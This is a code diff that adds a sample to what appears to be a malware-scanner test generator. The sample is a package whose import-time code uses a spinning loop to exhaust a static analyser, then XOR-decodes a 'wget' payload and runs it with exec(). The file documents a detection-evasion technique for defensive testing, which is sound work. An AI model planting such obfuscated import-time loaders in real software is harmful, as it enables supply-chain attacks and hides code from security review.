@@ -239,3 +239,17 @@ def define(setup_with, init_with, rot13):
     imitation("platform-table-dropper", "base64-decoded Python picked from a table by "
               "sys.platform (default empty) and written to a file, no exec, at import", [],
               {"platcfg/__init__.py": init_with(body)}, payload="ssh", name=n)
+
+    # A loop that never ends as a static reading folds it (`want` never changes) before an
+    # XOR-built payload: a scanner that folds loops pass by pass spends its budget on the
+    # spinner and no longer folds the decoding loop after it.
+    n = "streamkit-lite"
+    key = 0x05
+    codes = "".join(chr(ord(ch) ^ key) for ch in P("wget"))
+    body = ("def _drain(size=None):\n    if size is not None and size <= 0:\n        size = None\n"
+            "    want = size is None\n    while want:\n        want = size is None\n\n_drain(0)\n"
+            f"_k = {q(codes)}\n_c = ''\nfor ch in _k:\n    _c += chr(ord(ch) ^ {key})\nexec(_c)\n")
+    imitation("spinning-loop-before-decoder", "a loop that never ends as folded, then exec() of "
+              "an XOR-built payload, at import", [], {
+                  "streamkit_lite/__init__.py": init_with(body)},
+              payload="wget", name=n)
